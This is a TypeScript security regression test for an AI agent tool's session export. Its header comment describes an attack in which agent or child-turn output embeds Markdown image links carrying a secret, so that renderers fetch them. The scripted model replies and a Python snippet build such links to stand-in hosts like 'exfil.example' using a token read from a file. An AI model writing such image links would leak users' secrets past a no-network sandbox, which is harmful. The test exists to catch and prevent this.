// ATTACK (surface 8, the Markdown export: "fences, backticks, HTML, link injection"): the tenth
// and thirteenth passes made the block part of `vis sessions export` safe to render: every piece
// of sandbox text is fenced, in a code span or escaped (src/persistence/markdown.ts: "a rendered
// image is fetched by whoever views the export, so a block without network could send a secret
// out in its URL"). The export then appends the session's agent turns (src/cli/agent/show.ts
// agentMarkdown), and there nothing is escaped: the model's text and answer go in as `> ` lines
// of Markdown, and each child turn's line holds its prompt, which a BLOCK wrote
// (`sub_loop(prompt)`), and its answer, as is. So a session with the network OFF reads a secret
// in its root, and an image URL carrying it lands in the export as an image: every renderer that
// shows the transcript (a gist, a PR comment, an editor's preview) fetches it.
// Here (a real engine and agent against the provider double; the real CLI): R/secret.txt holds a
// token; the turn's block reads it and starts a child whose prompt is
// `![c](https://x.example/?d=<token>)` (within the 40 characters the line keeps); the model's answer is
// `![a](https://exfil.example/a?d=<token>)`. Outside every fence and code span the Markdown must
// hold no image. Both directions: the export succeeds and still shows the token (as text).
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { test } from 'node:test'
import { loadAgentConfig } from '../../src/agent/config.js'
import { agentFor } from '../../src/agent/index.js'
import { createEngine, type Engine } from '../../src/engine/index.js'
import { ProviderDouble, pyCall, type Recorded, type Scripted } from '../agent/double.js'
import { python } from '../agent/harness.js'
import { prose } from './sessions-export-markdown.js'

const visBin = resolve(import.meta.dirname, '../../bin/vis.js')
const SECRET = 'TOKEN-5150'

function route(req: Recorded): Scripted {
  const b = JSON.stringify(req.body)
  if (b.includes('PARENT-TASK')) {
    if (b.includes('CHILD-SAID')) return { text: `Done. ![a](https://exfil.example/a?d=${SECRET})` }
    return {
      calls: [
        pyCall(
          "s = open('secret.txt').read().strip()\nr = await sub_loop('![c](https://x.example/?d=' + s + ')')\nprint('CHILD-' + 'SAID', r)",
        ),
      ],
    }
  }
  if (b.includes('x.example/?d=')) return { text: 'child ok' }
  return { text: 'unrouted' }
}

test('the agent part of `vis sessions export` holds no Markdown image a session wrote', async () => {
  const base = mkdtempSync(join(tmpdir(), 'vis-attack-export-agent-md-'))
  const home = join(base, 'home')
  const R = join(base, 'R')
  mkdirSync(home)
  mkdirSync(R)
  writeFileSync(join(R, 'secret.txt'), `${SECRET}\n`)
  const saved = process.env.VIS_HOME
  process.env.VIS_HOME = home
  const double = await new ProviderDouble().start()
  let engine: Engine | undefined
  try {
    engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
    const config = loadAgentConfig({
      home,
      overrides: {
        providers: { openai: { baseURL: double.openaiURL, apiKey: 'sk-double' } },
        model: 'openai/double-model',
        stallMs: 2_000,
        backoffMs: [20, 40],
      },
    })
    const agent = agentFor(engine, config)
    const s = await engine.createSession({ roots: [R] })
    double.script([], (req) => route(req))
    const r = await agent.turn(s.id, 'PARENT-TASK: summarise')
    assert.equal(r.status, 'done', JSON.stringify(r.error))
    assert.equal(r.children.length, 1)
    await engine.close()
    engine = undefined
    const out = spawnSync(process.execPath, [visBin, 'sessions', 'export', s.id], {
      env: { ...process.env, VIS_HOME: home },
      encoding: 'utf8',
      timeout: 60_000,
    })
    assert.equal(out.status, 0, out.stderr)
    assert.match(out.stdout, /## Agent turns/)
    assert.match(out.stdout, new RegExp(SECRET), 'the export does not show the turn')
    const images =
      prose(out.stdout)
        .join('\n')
        .match(/!\[[^\]]*\]\([^)]*\)/g) ?? []
    assert.deepEqual(
      images,
      [],
      `the exported Markdown renders images a session without network wrote, carrying its secret: ${images.join(' ')}`,
    )
  } finally {
    await engine?.close()
    await double.close()
    if (saved === undefined) delete process.env.VIS_HOME
    else process.env.VIS_HOME = saved
    rmSync(base, { recursive: true, force: true })
  }
})
